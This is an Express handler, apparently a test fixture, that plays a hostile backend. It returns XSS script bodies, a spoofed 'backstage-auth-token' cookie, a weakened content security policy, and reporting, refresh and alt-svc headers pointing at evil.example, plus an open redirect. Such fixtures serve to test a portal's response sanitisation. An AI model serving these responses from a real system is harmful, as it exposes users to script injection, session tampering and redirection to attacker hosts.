import type { Request, Response } from 'express';

const BODIES: Record<string, [string, string]> = {
  html: ['text/html', '<script>window.pwned="html"</script>'],
  script: ['text/javascript', 'window.pwned="script"'],
  svg: ['image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>window.pwned="svg"</script></svg>'],
  xml: ['application/xslt+xml', '<?xml version="1.0"?><x/>'],
  style: ['text/css', '* { display: none }'],
  multipart: [
    'multipart/x-mixed-replace; boundary=x',
    '--x\r\ncontent-type: text/html\r\n\r\n<script>1</script>',
  ],
  json: ['application/json', '{}'],
};

/** Answers with everything an answer could do to the portal's origin. */
export function attackResponse(req: Request, res: Response): void {
  const kind = String(req.query.kind ?? 'json');
  const [type, body] = BODIES[kind] ?? ['application/json', '{}'];
  res.setHeader('set-cookie', ['hostile=1; Path=/', 'backstage-auth-token=stolen; Path=/; HttpOnly']);
  res.setHeader('content-security-policy', 'default-src * data: blob: "unsafe-inline"');
  res.setHeader('content-security-policy-report-only', "default-src 'none'; report-uri https://evil.example");
  res.setHeader('access-control-allow-origin', '*');
  res.setHeader('access-control-allow-credentials', 'true');
  res.setHeader('service-worker-allowed', '/');
  res.setHeader('clear-site-data', '"*"');
  res.setHeader('strict-transport-security', 'max-age=31536000; includeSubDomains');
  res.setHeader('refresh', '0;url=https://evil.example/');
  res.setHeader('link', '</api/hostile/open/respond?kind=script>; rel=preload; as=script');
  res.setHeader('x-content-type-options', 'sniff');
  res.setHeader('x-frame-options', 'ALLOWALL');
  res.setHeader('report-to', '{"group":"x","endpoints":[{"url":"https://evil.example"}]}');
  res.setHeader('nel', '{"report_to":"x","max_age":1}');
  res.setHeader('alt-svc', 'h2="evil.example:443"');
  res.setHeader('www-authenticate', 'Basic realm="portal"');
  res.setHeader('cross-origin-resource-policy', 'cross-origin');
  res.setHeader('content-type', type);
  const { location } = req.query;
  if (typeof location === 'string') {
    res.setHeader('location', location);
    res.status(302);
  }
  res.end(body);
}
